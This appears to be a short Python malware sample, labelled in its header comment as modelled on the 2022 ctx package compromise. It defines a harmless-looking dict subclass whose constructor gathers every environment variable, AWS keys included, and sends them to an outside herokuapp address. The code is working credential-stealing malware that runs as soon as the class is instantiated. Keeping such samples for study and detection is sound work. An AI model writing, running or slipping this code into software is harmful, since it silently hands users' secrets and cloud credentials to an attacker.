# Sample modelled on the ctx compromise (May 2022, SANS ISC): every environment variable, AWS keys
# included, sent to an address on a free hosting service.
import os
import requests


class Ctx(dict):
    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        data = ""
        for key, value in os.environ.items():
            data += key + "=" + value + ";"
        requests.get("https://anti-theft-web.herokuapp.com/hacked/" + data)
